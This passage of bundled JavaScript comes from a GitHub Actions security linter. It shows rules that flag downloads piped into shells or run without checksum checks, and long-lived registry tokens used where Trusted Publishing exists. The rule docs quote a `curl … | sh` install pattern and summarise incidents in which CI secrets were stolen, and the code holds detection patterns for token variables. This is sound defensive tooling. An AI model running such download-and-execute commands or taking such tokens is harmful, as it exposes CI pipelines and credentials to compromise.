  if (remote) return cutFromFirst(url, "?#").replace(/^.*\//, "") || null;
  return null;
}
function mentions2(command, file) {
  const base2 = slashed(file).replace(/^.*\//, "");
  return command.argv.some((argument) => {
    const word = { text: pathOf2(argument) };
    return word.text === slashed(file) || word.text.endsWith(`/${base2}`) || word.text === base2 || word.text === `./${base2}`;
  }) || command.redirects.some((redirect) => redirect.target?.text === file);
}
function verified(scripts, download) {
  for (const run2 of scripts) {
    if (run2.step.index < download.run.step.index) continue;
    for (const command of run2.script.commands) {
      const name = nameOf2(command);
      if (!VERIFIERS.test(name)) continue;
      if (name === "gpg" && !args(command).some((word) => word.text === "--verify")) continue;
      if (name === "openssl" && command.argv[1]?.text !== "dgst") continue;
      if (name === "cosign" && !/^verify/.test(command.argv[1]?.text ?? "")) continue;
      if (run2 === download.run || !download.file || mentions2(command, download.file) || run2.script.text.includes(download.file))
        return true;
    }
    if (run2.script.commands.some(
      (command) => command.name === "gh" && command.argv[1]?.text === "attestation" && command.argv[2]?.text === "verify"
    ))
      return true;
    if (/get-filehash/i.test(run2.script.text) && (run2 === download.run || !download.file || run2.script.text.includes(download.file)))
      return true;
  }
  return false;
}
function extractDestination(command) {
  const name = nameOf2(command);
  const flag = name === "tar" || name === "bsdtar" ? flagValue(command, "-C", "--directory") : name === "unzip" ? flagValue(command, "-d") : name === "expand-archive" ? flagValue(command, "-DestinationPath", "-destinationpath") : null;
  if (flag) return pathOf2(flag);
  if (name === "7z") {
    const out = args(command).find((word) => word.text.startsWith("-o") && word.text.length > 2);
    if (out) return out.text.slice(2);
  }
  return null;
}
function runsFrom(scripts, from, after, dir) {
  const prefix = trimEndOf(slashed(dir).replace(/^\.\//, ""), "/");
  if (!prefix || prefix === "." || prefix === "/") return null;
  for (const run2 of scripts) {
    if (run2.step.index < from.step.index) continue;
    for (const command of run2.script.commands) {
      if (run2 === from && command.span.start <= after) continue;
      const first = pathOf2(command.argv[0]).replace(/^\.\//, "");
      if (first.startsWith(`${prefix}/`)) return { span: run2.sourceSpan(command.span) };
    }
  }
  return null;
}
function consumer(scripts, download) {
  if (!download.file) return null;
  const file = slashed(download.file);
  const base2 = file.replace(/^.*\//, "");
  for (const run2 of scripts) {
    if (run2.step.index < download.run.step.index) continue;
    for (const command of run2.script.commands) {
      if (run2 === download.run && command.span.start <= download.command.span.start) continue;
      const first = pathOf2(command.argv[0]);
      if ((first === file || first === `./${base2}` || first.endsWith(`/${base2}`)) && first.includes("/"))
        return { span: run2.sourceSpan(command.span), what: "executes" };
      if (!mentions2(command, download.file)) continue;
      const name = nameOf2(command);
      if (SHELLS.has(name)) return { span: run2.sourceSpan(command.span), what: "executes" };
      if (EXTRACT.has(name)) {
        const destination = extractDestination(command);
        const runner = destination ? runsFrom(scripts, run2, command.span.start, destination) : null;
        if (runner) return { span: runner.span, what: "extracts and runs" };
        return { span: run2.sourceSpan(command.span), what: "extracts" };
      }
      if (INSTALL.has(name)) return { span: run2.sourceSpan(command.span), what: name === "chmod" ? "makes executable" : "installs" };
    }
  }
  return null;
}
function knownChecksum(config, url) {
  const map2 = config.checksums;
  if (!map2 || typeof map2 !== "object" || Array.isArray(map2)) return null;
  for (const [pattern, hash] of Object.entries(map2)) {
    if (typeof hash !== "string" || !/^[0-9a-f]{64}$/i.test(hash)) continue;
    if (pattern === url) return hash.toLowerCase();
    if (pattern.includes("*")) {
      if (wildcardMatch(pattern, url)) return hash.toLowerCase();
    }
  }
  return null;
}
var unverifiedDownload = {
  id: "unverified-download",
  title: "Downloaded code executed without a checksum or signature check",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "medium",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `run:` step fetches a script or binary (curl, wget, Invoke-WebRequest, `gh release download`, `pip install <url>`) and pipes it to a shell, executes, extracts or installs it, with no checksum or signature verification.",
    why: "A SHA-pinned action is immutable; what it downloads is not. In LiteLLM (2026, PYSEC-2026-2) the publishing job ran `curl …/main/install.sh | sh` and installed a scanner whose release had been replaced, which stole the PyPI credential. Codecov's bash uploader (2021) was altered at its download URL and exfiltrated CI secrets for two months. Astral calls this the gap no tool covers: download, then `sha256sum -c` against a pinned checksum.",
    fix: 'Pin the version in the URL and verify it before use: `echo "<sha256>  tool.tar.gz" | sha256sum -c -` (or `gh attestation verify`, `cosign verify-blob`, `minisign -V`, `gpg --verify`). Never pipe a download into a shell. Record known hashes in the rule\'s `checksums` map (URL or URL pattern with `*` → sha256) to get a quick fix that inserts the check.'
  },
  check({ file, config, report: report2 }) {
    const jobs = file.workflow ? file.workflow.jobs : file.action ? [null] : [];
    for (const job of jobs) {
      const scripts = runScriptsOf(file, job);
      for (const run2 of scripts) {
        for (const command of run2.script.commands) {
          const name = nameOf2(command);
          let url = null;
          if (DOWNLOADERS2.has(name)) url = urlOf(command);
          else if (name === "gh" && command.argv[1]?.text === "release" && command.argv[2]?.text === "download")
            url = `gh release download ${command.argv[3]?.text ?? ""}`.trim();
          else if ((name === "pip" || name === "pip3" || name.startsWith("python") && command.argv[2]?.text === "pip") && args(command).some((word) => word.text === "install")) {
            const target = args(command).find((word) => /^(https?:\/\/|git\+)/.test(word.text));
            if (target && !/#sha256=|--require-hashes/.test(run2.script.text) && !/@[0-9a-f]{40}/.test(target.text)) {
              report2({
                span: run2.sourceSpan(target.span),
                message: `\`pip install\` installs \`${target.text}\` straight from a URL, with no hash: whoever controls that URL controls the install`,
                severity: "medium",
                confidence: "medium"
              });
            }
            continue;
          }
          if (!url || immutable(url)) continue;
          const download = { run: run2, command, url, file: savedFile(command, url) };
          const span = run2.sourceSpan(command.argv[0].span);
          let next = pipedInto(run2.script, command);
          for (let hops = 0; next && FILTERS2.has(nameOf2(next)) && next.pipesTo && hops < 8; hops++) next = pipedInto(run2.script, next);
          if (next) {
            if (SHELLS.has(nameOf2(next)) || next.name === "sudo" && SHELLS.has(next.argv[0]?.text ?? "")) {
              report2({
                span,
                message: `\`${url}\` is downloaded and piped straight into \`${next.name}\`: whoever controls that URL (or its release) runs code in this job`,
                severity: "high",
                confidence: "high",
                related: [{ span: run2.sourceSpan(next.span), message: "executes the download" }]
              });
              continue;
            }
            if (EXTRACT.has(nameOf2(next)) && !verified(scripts, download)) {
              const overRoot = extractDestination(next) === "/";
              report2({
                span,
                message: `\`${url}\` is downloaded and extracted (\`${next.name}\`)${overRoot ? " over `/`" : ""} with no checksum or signature check`,
                severity: overRoot ? "high" : "medium",
                confidence: "medium",
                related: [{ span: run2.sourceSpan(next.span), message: "extracts the download" }]
              });
            }
            continue;
          }
          if (command.inSubstitution) {
            const outer = run2.script.commands.find(
              (other) => !other.inSubstitution && other.span.start <= command.span.start && other.span.end >= command.span.end
            );
            if (outer && SHELLS.has(outer.name)) {
              report2({
                span,
                message: `\`${url}\` is downloaded and executed by \`${outer.name}\` in one go: whoever controls that URL runs code in this job`,
                severity: "high",
                confidence: "high"
              });
            }
            continue;
          }
          const use = consumer(scripts, download);
          if (!use || verified(scripts, download)) continue;
          const hash = download.file ? knownChecksum(config, url) : null;
          const fixes = [];
          if (hash && download.file) {
            const lineIndex = file.lines;
            const endLine = lineIndex.lineAt(run2.toSource(command.span.end));
            const indent = lineIndex.indentation(lineIndex.lineAt(run2.toSource(command.span.start)));
            const at = lineIndex.lineContentEnd(endLine);
            fixes.push({
              title: `Verify ${download.file} against its recorded sha256`,
              isPreferred: true,
              safety: "safe",
              edits: [
                { span: { start: at, end: at }, newText: `${lineIndex.eol}${indent}echo "${hash}  ${download.file}" | sha256sum -c -` }
              ]
            });
          }
          report2({
            span,
            message: `\`${url}\` is downloaded${download.file ? ` to \`${download.file}\`` : ""} and then ${PAST[use.what] ?? use.what}, with no checksum or signature check${hash ? " (its sha256 is recorded in the configuration)" : ""}`,
            severity: use.what === "extracts" ? "medium" : "high",
            confidence: "medium",
            related: [{ span: use.span, message: `${use.what} the download` }],
            fixes
          });
        }
      }
    }
  }
};

// server/src/rules/use-trusted-publishing.ts
var REGISTRY_NAMES = { pypi: "PyPI", npm: "npm", "crates.io": "crates.io", rubygems: "RubyGems", nuget: "NuGet" };
var TOKEN_ENV = {
  npm: /^(NODE_AUTH_TOKEN|NPM_TOKEN|NPM_CONFIG__AUTH)$/,
  pypi: /^(TWINE_PASSWORD|TWINE_USERNAME|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|POETRY_PYPI_TOKEN_\w+|POETRY_HTTP_BASIC_\w+|HATCH_INDEX_AUTH|PDM_PUBLISH_PASSWORD|FLIT_PASSWORD|MATURIN_PYPI_TOKEN|MATURIN_PASSWORD)$/,
  "crates.io": /^CARGO_REGISTRY_TOKEN$/,
  rubygems: /^(GEM_HOST_API_KEY|RUBYGEMS_API_KEY)$/,
  nuget: /^(NUGET_API_KEY|NUGET_AUTH_TOKEN)$/
};
var isTokenVar = (name, registry) => TOKEN_ENV[registry]?.test(name) ?? false;
var isOtherRegistryToken = (name, registry) => Object.keys(TOKEN_ENV).some((other) => other !== registry && isTokenVar(name, other));
var useTrustedPublishing = {
  id: "use-trusted-publishing",
  title: "Long-lived registry token where Trusted Publishing exists",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A job publishes to PyPI, npm, crates.io, RubyGems or NuGet with a stored token or password, though these registries accept short-lived OIDC credentials (Trusted Publishing).",
    why: "A stored publish token works from anywhere until someone revokes it. Nx s1ngularity (2025) and elementary-data (2026) lost `NPM_TOKEN` / PyPI passwords from injectable workflows; LiteLLM (2026, PYSEC-2026-2) had its PyPI credential stolen by a compromised scanner running in the publishing job; Ultralytics (2024) saw 8.3.45/46 published with a stolen token after the Trusted Publishing path was closed. With Trusted Publishing there is no token to steal: the registry trusts this repository, workflow and environment only for minutes.",
    fix: "Register the workflow as a trusted publisher on the registry, grant the job `permissions: id-token: write`, run it in a protected `environment:`, and drop the token: `pypa/gh-action-pypi-publish` without `password`, `uv publish` / `twine` via the OIDC exchange, `npm publish --provenance` with npm ≥ 11.5, `rust-lang/crates-io-auth-action`, `rubygems/release-gem`, NuGet's `NuGet/login`."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    const seen = /* @__PURE__ */ new Set();
    const jobs = workflow ? workflow.jobs.map((job) => ({ job, steps: job.steps })) : file.action ? [{ job: null, steps: file.action.steps }] : [];
    for (const { job, steps } of jobs) {
      const oidc2 = workflow && job ? hasIdTokenWrite(workflow, job) : false;
      for (const step of steps) {
        const action = stepAction(file, step);
        if (!action) continue;
        let credential = null;
        if (action.name === "pypa/gh-action-pypi-publish" && step.with.has("password")) credential = { key: "password", registry: "PyPI" };
        else if (action.name === "rubygems/release-gem" && /^false$/i.test((input(step, "setup-trusted-publisher") ?? "").trim()))
          credential = { key: "setup-trusted-publisher", registry: "RubyGems" };
        else if (action.name === "rubygems/configure-rubygems-credentials" && step.with.has("api-token"))
          credential = { key: "api-token", registry: "RubyGems" };
        else if (action.name === "js-devtools/npm-publish" && step.with.has("token")) credential = { key: "token", registry: "npm" };
        else if (action.name === "katyo/publish-crates" && step.with.has("registry-token"))
          credential = { key: "registry-token", registry: "crates.io" };
        if (!credential) continue;
        const entry = step.with.get(credential.key);
        const value = input(step, credential.key) ?? "";
        if (credential.key === "password" && /secrets\.GITHUB_TOKEN/i.test(value)) continue;
        seen.add(entry.keySpan.start);
        report2({
          span: entry.keySpan,
          message: `\`${action.name}\` publishes to ${credential.registry} with a long-lived credential (\`${credential.key}\`); ${credential.registry} supports Trusted Publishing${oidc2 ? " and this job already has `id-token: write`: drop the credential" : ": grant `id-token: write` and drop it"}`
        });
      }
    }
    for (const run2 of runScripts(file)) {
      if (!run2.script.commands.some((command) => publishCommand(command)?.trusted)) continue;
      const job = run2.job;
      if (workflow && job && hasIdTokenWrite(workflow, job)) continue;
      const env = [...visibleEnv(file, job, run2.step).entries()].filter(([, value]) => /secrets\./i.test(value));
      for (const command of run2.script.commands) {
        const publish = publishCommand(command);
        if (!publish || !publish.trusted) continue;
        const registry = REGISTRY_NAMES[publish.registry] ?? publish.registry;
        const tokenVars = env.filter(([name]) => isTokenVar(name, publish.registry)).map(([name]) => name);
        const otherTokens = env.filter(([name]) => isOtherRegistryToken(name, publish.registry)).map(([, value]) => value);
        const inline = inlineCredentialArgs(command);
        const commandText = run2.script.text.slice(command.span.start, command.span.end);
        const secretInCommand = /secrets\.|\$\{?[A-Z_]*(TOKEN|PASSWORD|API_KEY|APIKEY)/i.test(commandText);
        const stepSecrets = secretReferences(file, run2.step.nodeSpan ?? run2.entry.valueSpan).map((secret) => secret.name).filter((name) => !otherTokens.some((value) => value.toLowerCase().includes(`secrets.${name.toLowerCase()}`)));
        const credential = tokenVars.length > 0 ? `\`${tokenVars[0]}\`` : inline.length > 0 && secretInCommand ? `\`${inline[0]}\`` : secretInCommand ? "a token in the command" : stepSecrets.length > 0 ? `secret \`${stepSecrets[0]}\`` : null;
        if (!credential) continue;
        const span = run2.sourceSpan({ start: command.argv[0].span.start, end: (command.argv[1] ?? command.argv[0]).span.end });
        if (seen.has(span.start)) continue;
        seen.add(span.start);
        report2({
          span,
          message: `\`${publish.label}\` publishes to ${registry} with a long-lived credential (${credential}); ${registry} supports Trusted Publishing: grant the job \`id-token: write\` and drop the token`
        });
      }
    }
  }
};

// server/src/rules/index.ts
var RULES = [
  dangerousTriggers,
  excessivePermissions,
  undocumentedPermissions,
  unpinnedUses,
  templateInjection,
  insecureCommands,
  overprovisionedSecrets,
  unredactedSecrets,
  aiAgentInjection,
  githubEnv,
  botConditions,
  refVersionMismatch,
  impostorCommit,
  staleActionRefs,
  refConfusion,
  unpinnedImages,
  hardcodedContainerCredentials,
  knownVulnerableActions,
  archivedUses,
  typosquatUses,
  forbiddenUses,
  dependabotCooldown,
  dependabotExecution,
  dependabotMissingActions,
  unsoundCondition,
  unsoundContains,
  unsoundTernary,
  obfuscation,
  misfeature,
  superfluousActions,
  githubApp,
  selfRepository,
  concurrencyLimits,
  anonymousDefinition,
  untrustedCheckout,
  artifactPoisoning,
  artipacked,
  cachePoisoning,
  secretsInherit,
  secretsOutsideEnv,
  selfHostedRunner,
  useTrustedPublishing,
  unverifiedDownload,
  insecureUrlScheme,
  adhocPackages,
  unpinnedTools,
  unknownStepReference
];
var byId = new Map(RULES.map((rule) => [rule.id, rule]));
function ruleById(id) {
  return byId.get(id);
}

// server/src/findings.ts
var SYNTAX_ERROR_RULE = "syntax-error";
var INTERNAL_ERROR_RULE = "internal-error";
var UNUSED_IGNORE_RULE = "unused-ignore";
var CONFIG_ERROR_RULE = "config-error";
var BUILT_IN_RULES = [
  {
    id: SYNTAX_ERROR_RULE,
    title: "File is not valid YAML",
    severity: "high",
    confidence: "high",
    persona: "regular",
    summary: "The file could not be parsed as YAML, so GitHub will reject it and nothing else in it was checked.",
    help: "Fix the YAML error at the reported position.",
    reportedOn: "actions-file",
    alwaysShown: true,
    ignorable: false
  },
  {
    id: INTERNAL_ERROR_RULE,
    title: "Actions Warden failed on this file",
    severity: "low",
    confidence: "high",
    persona: "regular",
    summary: "A rule failed on this file; please report it with the file attached.",
    help: "This is a bug in Actions Warden, not in the file.",
    reportedOn: "actions-file",
    alwaysShown: true,
    ignorable: false
  },
  {
    id: UNUSED_IGNORE_RULE,
    title: "Ignore comment suppresses nothing",
    severity: "low",
    confidence: "high",
    persona: "pedantic",
    summary: "A `# warden: ignore[...]` or `# zizmor: ignore[...]` comment names a rule that reports nothing on that line.",
    help: "Remove the stale rule id (or the whole comment), so that a future finding on that line is not hidden.",
    reportedOn: "actions-file",
    alwaysShown: false,
    ignorable: true
  },
  {
    id: CONFIG_ERROR_RULE,
    title: "Problem in the configuration file",
    severity: "medium",
    confidence: "high",
    persona: "regular",
    summary: "A key of the configuration file has a wrong type or value, or is unknown; it was ignored.",
    help: "See docs/configuration.md for the file format.",
    reportedOn: "configuration-file",
    alwaysShown: false,
    ignorable: false
  }
];
var builtInById = new Map(BUILT_IN_RULES.map((rule) => [rule.id, rule]));
function builtInRule(id) {
  return builtInById.get(id);
}
function builtIn(id) {
  const rule = builtInById.get(id);
  if (!rule) throw new Error(`${id} is not a built-in rule`);
  return rule;
}
function isSuppressed(finding) {
  return finding.suppression !== void 0;
}

// server/src/config/rule-options.ts
var RULE_OPTIONS = {
  "dependabot-cooldown": {
    days: { kind: "integer", minimum: 1, description: "The shortest cooldown accepted, in days (a whole number, at least 1; default 7)." }
  },
  "forbidden-uses": {
    allow: {
      kind: "uses-patterns",
      description: "Only actions matching one of these patterns may be used (owner/*, owner/repo, owner/repo/*, owner/repo/path, *; optionally @ref)."
    },
    deny: {
      kind: "uses-patterns",
      description: "Actions matching one of these patterns may not be used (same patterns as allow; allow and deny exclude each other)."
    }
  },
  "secrets-outside-env": {
    allow: { kind: "names", description: "Secret names that may be used outside a deployment environment (GITHUB_TOKEN always may)." }
  },
  "unpinned-uses": {
    policies: {
      kind: "pin-policies",
      description: "Pattern (owner/repo/path, owner/repo, owner/repo/*, owner/*, *; no @ref) to any, ref-pin or hash-pin; the most specific pattern wins."
    }
  },
  "unverified-download": {
    checksums: {
      kind: "checksums",
      description: "Download URL (or pattern with *) to its expected sha256 (64 hex digits, optionally prefixed sha256:)."
    }
  }
};
function ruleOptions(ruleId) {
  return RULE_OPTIONS[ruleId] ?? {};
}
function usesPatternProblem(pattern, allowRef) {
  if (pattern === "*") return null;
  for (let i = 0; i < pattern.length; i++) {
    const c = pattern.charCodeAt(i);
    if (c <= 32 || c === 127) return "a pattern has no spaces or control characters";
  }
  const at = pattern.indexOf("@");
  const target = at === -1 ? pattern : pattern.slice(0, at);
  if (at !== -1) {
    const ref2 = pattern.slice(at + 1);
    if (!allowRef) return `a pinning policy applies to every ref, so its pattern cannot name one (drop the \`@${ref2}\`)`;
    if (ref2 === "" || ref2.includes("@") || ref2.includes("*")) return "the ref after `@` must be one exact ref";
  }
  const parts = target.split("/");
  const [owner, repo, ...rest] = parts;
  if (!owner || owner.includes("*")) return "the owner must be written out (`owner/repo`, `owner/*`)";
  if (repo === void 0) return `a pattern names a repository: \`${owner}/*\` for every repository of \`${owner}\``;
  if (repo === "*") {
    if (rest.length > 0) return "`owner/*` cannot be followed by a path";
    return at === -1 ? null : "a ref only goes with an exact `owner/repo[/path]`";
  }
  if (repo === "" || repo.includes("*")) return "the repository must be written out or be `*`";
  for (let i = 0; i < rest.length; i++) {
    const segment = rest[i];
    if (segment === "*") {
      if (i !== rest.length - 1 || i !== 0) return "`*` stands only for the whole path: `owner/repo/*`";
      return at === -1 ? null : "a ref only goes with an exact `owner/repo[/path]`";
    }
    if (segment === "" || segment.includes("*")) return "each path segment must be written out (`*` only as `owner/repo/*`)";
  }
  return null;
}
function isSecretName(name) {
  if (name.length === 0) return false;
  for (let i = 0; i < name.length; i++) {
    const c = name.charCodeAt(i);
    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95;
    const digit = c >= 48 && c <= 57;
    if (!letter && !(digit && i > 0)) return false;
  }
  return true;
}

// server/src/config/config-file.ts
var PIN_POLICIES = ["any", "ref-pin", "hash-pin"];
var OUR_TOP_LEVEL_KEYS = ["persona", "min-severity", "min-confidence", "github", "pinning", "checksums", "rules"];
var RULE_KEYS_OURS = ["disable", "ignore", "config", "severity", "remap"];
var RULE_KEYS_ZIZMOR = ["disable", "ignore", "config", "remap"];
function knownRuleIds() {
  return [...RULES.map((rule) => rule.id), ...BUILT_IN_RULES.map((rule) => rule.id)];
}
function closestName(name, known) {
  let best;
  let bestDistance = Number.POSITIVE_INFINITY;
  for (const candidate of known) {
    const limit = Math.max(1, Math.floor(candidate.length / 3));
    const distance = editDistance(name, candidate, { limit, swaps: true });
    if (distance <= limit && distance < bestDistance) {
      best = candidate;
      bestDistance = distance;
    }
  }
  return best;
}
function emptyConfig(path, format = "warden", text = "") {
  return { path, format, text, lines: new LineIndex(text), githubHosts: [], rules: {}, problems: [] };
}
function spanOf2(node, fallback) {
  const range = node?.range;
  return range ? { start: range[0], end: range[1] } : fallback;
}
function plain(node) {
  try {
    return node?.toJSON?.() ?? (isScalar(node) ? node.value : null);
  } catch {
    return null;
  }
}
function parseConfig(text, path, format) {
  const config = emptyConfig(path, format, text);
  const whole = { start: 0, end: Math.min(text.length, config.lines.lineContentEnd(0)) };
  const problem = (node, message, level = "error") => config.problems.push({ span: spanOf2(node, whole), message, level });
  let doc;
  try {
    doc = parseDocument(text, { prettyErrors: false, uniqueKeys: true });
  } catch (error) {
    config.problems.push({ span: whole, message: `The configuration could not be parsed: ${String(error)}`, level: "error" });
    return config;
  }
  for (const error of doc.errors) {
    const start = Math.max(0, Math.min(error.pos[0], text.length));
    config.problems.push({
      span: { start, end: Math.max(start, Math.min(error.pos[1], text.length)) },
      message: `YAML: ${error.message.split("\n")[0]}`,
      level: "error"
    });
  }
  if (doc.errors.length > 0) return config;
  const root = doc.contents;
  if (root === null || isScalar(root) && (root.value === null || root.value === "")) return config;
  if (!isMap(root)) {
    problem(root, "The configuration must be a mapping of keys (such as `rules:`).");
    return config;
  }
  const enumValue = (node, allowed, key) => {
    const value = isScalar(node) ? node.value : void 0;
    if (typeof value === "string" && allowed.includes(value)) return value;
    problem(node, `\`${key}\` must be one of ${allowed.join(", ")}${value === void 0 ? "" : `, not \`${String(value)}\``}.`);
    return void 0;
  };
  const stringList = (node, key) => {
    const items = isSeq(node) ? node.items : isScalar(node) ? [node] : null;
    if (!items) {
      problem(node, `\`${key}\` must be a list of strings.`);
      return [];
    }
    const out = [];
    for (const item of items) {
      if (isScalar(item) && (typeof item.value === "string" || typeof item.value === "number") && String(item.value).trim() !== "")
        out.push(String(item.value).trim());
      else problem(item, `Each entry of \`${key}\` must be a non-empty string.`);
    }
    return out;
  };
  const ruleSettings = (id) => config.rules[id] ??= { disable: false, ignore: [], config: {} };
  for (const pair of root.items) {
    const key = isScalar(pair.key) ? String(pair.key.value) : "";
    const value = pair.value;
    if (format === "zizmor" && key !== "rules") continue;
    switch (key) {
      case "persona":
        config.persona = enumValue(value, PERSONAS, key);
        break;
      case "min-severity":
        config.minSeverity = enumValue(value, SEVERITIES, key);
        break;
      case "min-confidence":
        config.minConfidence = enumValue(value, CONFIDENCES, key);
        break;
      case "github": {
        if (!isMap(value)) {
          problem(value ?? pair.key, "`github` must be a mapping with `hosts`, `server-url` or `api-url`.");
          break;
        }
        const spans = { hosts: [] };
        config.githubSpans = spans;
        for (const item of value.items) {
          const sub = isScalar(item.key) ? String(item.key.value) : "";
          if (sub === "hosts") {
            config.githubHosts = stringList(item.value, "github.hosts");
            const items = isSeq(item.value) ? item.value.items : [item.value];
            spans.hosts = items.filter(
              (entry) => isScalar(entry) && (typeof entry.value === "string" || typeof entry.value === "number") && String(entry.value).trim() !== ""
            ).map((entry) => spanOf2(entry, whole));
          } else if (sub === "server-url" || sub === "api-url") {
            const url = isScalar(item.value) ? item.value.value : void 0;
            if (typeof url !== "string" || !/^https?:\/\/\S+$/.test(url))
              problem(item.value ?? item.key, `\`github.${sub}\` must be an http(s) URL.`);
            else if (hasUrlCredentials(url))
              problem(
                item.value,
                `\`github.${sub}\` (${displayUrl(url)}) contains credentials, which are refused: a token is never taken from a URL.`
              );
            else if (sub === "server-url") {
              config.githubServerUrl = url;
              spans.serverUrl = spanOf2(item.value, whole);
            } else {
              config.githubApiUrl = url;
              spans.apiUrl = spanOf2(item.value, whole);
            }
          } else problem(item.key, `Unknown key \`github.${sub}\`: expected hosts, server-url or api-url.`, "warning");
        }
        break;
      }
      case "pinning": {
        if (!isMap(value)) {
          problem(value ?? pair.key, "`pinning` must be a mapping with `trusted-owners` and/or `policies`.");
          break;
        }
        const policies = {};
        for (const item of value.items) {
          const sub = isScalar(item.key) ? String(item.key.value) : "";
          if (sub === "trusted-owners") {
            for (const owner of stringList(item.value, "pinning.trusted-owners"))
              policies[owner.includes("/") ? owner : `${owner}/*`] = "ref-pin";
          } else if (sub === "policies") Object.assign(policies, readPolicies(item.value, "pinning.policies", problem));
          else problem(item.key, `Unknown key \`pinning.${sub}\`: expected trusted-owners or policies.`, "warning");
        }
        if (Object.keys(policies).length > 0) {
          const settings = ruleSettings("unpinned-uses");
          settings.config = {
            ...settings.config,
            policies: { ...policies, ...settings.config.policies ?? {} }
          };
        }
        break;
      }
      case "checksums": {
        if (!isMap(value)) {
          problem(value ?? pair.key, "`checksums` must be a mapping of download URL to its sha256.");
          break;
        }
        const checksums = readChecksums(value, problem);
        const settings = ruleSettings("unverified-download");
        settings.config = {
          ...settings.config,
          checksums: { ...checksums, ...settings.config.checksums ?? {} }
        };
        break;
      }
      case "rules": {
        const knownIds = new Set(knownRuleIds());
        if (!isMap(value)) {
          if (!(isScalar(value) && value.value === null))
            problem(value ?? pair.key, "`rules` must be a mapping of rule id to its settings.");
          break;
        }
        for (const rulePair of value.items) {
          const id = isScalar(rulePair.key) ? String(rulePair.key.value) : "";
          if (!/^[a-z0-9][a-z0-9-]*$/.test(id)) {
            problem(rulePair.key, `\`${id}\` is not a rule id (lower-case words joined by dashes).`);
            continue;
          }
          const known = knownIds.has(id);
          if (!known) {
            const suggestion2 = closestName(id, [...knownIds]);
            if (suggestion2)
              problem(
                rulePair.key,
                `\`${id}\` is not a rule of Actions Warden: did you mean \`${suggestion2}\`? Its settings apply to no rule.`
              );
            else if (format === "warden")
              problem(rulePair.key, `\`${id}\` is not a rule of Actions Warden: its settings apply to no rule.`, "warning");
          }
          const body = rulePair.value;
          if (isScalar(body) && body.value === null) continue;
          if (!isMap(body)) {
            problem(
              body ?? rulePair.key,
              `\`rules.${id}\` must be a mapping (disable, ignore, config${format === "warden" ? ", severity" : ""}, remap).`
            );
            continue;
          }
          const settings = ruleSettings(id);
          for (const item of body.items) {
            const sub = isScalar(item.key) ? String(item.key.value) : "";
            switch (sub) {
              case "disable": {
                const flag = isScalar(item.value) ? item.value.value : void 0;
                if (typeof flag === "boolean") settings.disable = flag;
                else problem(item.value ?? item.key, `\`rules.${id}.disable\` must be true or false.`);
                break;
              }
              case "severity":
                if (format === "warden") settings.severity = enumValue(item.value, SEVERITIES, `rules.${id}.severity`) ?? settings.severity;
                else problem(item.key, `Unknown key \`rules.${id}.${sub}\`.`, "warning");
                break;
              case "remap": {
                if (!isMap(item.value)) {
                  problem(item.value ?? item.key, `\`rules.${id}.remap\` must be a mapping (severity).`);
                  break;
                }
                for (const remap of item.value.items) {
                  const what = isScalar(remap.key) ? String(remap.key.value) : "";
                  if (what === "severity")
                    settings.severity = enumValue(remap.value, SEVERITIES, `rules.${id}.remap.severity`) ?? settings.severity;
                  else problem(remap.key, `Unknown key \`rules.${id}.remap.${what}\`: only severity can be remapped.`, "warning");
                }
                break;
              }
              case "ignore":
                for (const entry of stringList(item.value, `rules.${id}.ignore`)) {
                  const location = parseIgnoreLocation(entry);
                  if (location) settings.ignore.push(location);
                  else problem(item.value, `\`${entry}\` is not \`file[:line[:column]]\`.`);
                }
                break;
              case "config": {
                if (isScalar(item.value) && item.value.value === null) break;
                if (!isMap(item.value)) {
                  problem(item.value ?? item.key, `\`rules.${id}.config\` must be a mapping of options.`);
                  break;
                }
                const options = readRuleOptions(id, known, item.value, problem);
                for (const [name, option] of Object.entries(options)) {
                  const existing = settings.config[name];
                  settings.config[name] = (name === "policies" || name === "checksums") && existing && typeof existing === "object" ? { ...existing, ...option } : option;
                }
                break;
              }
              default:
                problem(
                  item.key,
                  `Unknown key \`rules.${id}.${sub}\`: expected ${(format === "warden" ? RULE_KEYS_OURS : RULE_KEYS_ZIZMOR).join(", ")}.`,
                  "warning"
                );
            }
          }
        }
        break;
      }
      default:
        problem(pair.key, `Unknown key \`${key}\`: expected one of ${OUR_TOP_LEVEL_KEYS.join(", ")}.`, "warning");
    }
  }
  return config;
}
function readPolicies(node, key, problem) {
  const out = {};
  if (!isMap(node)) {
    problem(
      node,
      `\`${key}\` must be a mapping of pattern (\`owner/repo\`, \`owner/repo/*\`, \`owner/*\`, \`*\`) to any, ref-pin or hash-pin.`
    );
    return out;
  }
  for (const item of node.items) {
    const pattern = isScalar(item.key) ? String(item.key.value) : "";
    const policy = isScalar(item.value) ? item.value.value : void 0;
    const wrong = usesPatternProblem(pattern, false);
    if (wrong !== null)
      problem(item.key, `\`${pattern}\`: ${wrong}. Patterns: \`owner/repo\`, \`owner/repo/path\`, \`owner/repo/*\`, \`owner/*\`, \`*\`.`);
    else if (typeof policy !== "string" || !PIN_POLICIES.includes(policy))
      problem(item.value ?? item.key, `The policy of \`${pattern}\` must be one of ${PIN_POLICIES.join(", ")}.`);
    else out[pattern] = policy;
  }
  return out;
}
function readRuleOptions(id, known, node, problem) {
  const out = {};
  const table = ruleOptions(id);
  const names = Object.keys(table);
  for (const item of node.items) {
    const name = isScalar(item.key) ? String(item.key.value) : "";
    const key = `rules.${id}.config.${name}`;
    const descriptor = table[name];
    if (!known) {
      out[name] = plain(item.value);
      continue;
    }
    if (!descriptor) {
      const suggestion2 = closestName(name, names);
      problem(
        item.key,
        names.length === 0 ? `\`${id}\` takes no options: \`${key}\` is ignored.` : `Unknown option \`${key}\`${suggestion2 ? `: did you mean \`${suggestion2}\`?` : `: expected ${names.join(", ")}.`}`,
        suggestion2 ? "error" : "warning"
      );
      continue;
    }
    const value = readOption(key, descriptor, item.value ?? item.key, problem);
    if (value !== void 0) out[name] = value;
  }
  if (id === "forbidden-uses" && out.allow !== void 0 && out.deny !== void 0) {
    const denyPair = node.items.find((item) => isScalar(item.key) && item.key.value === "deny");
    problem(
      denyPair?.key,
      "`rules.forbidden-uses.config` takes `allow` or `deny`, not both: `deny` is ignored while `allow` is set.",
      "warning"
    );
    delete out.deny;
  }
  return out;
}
function readOption(key, descriptor, node, problem) {
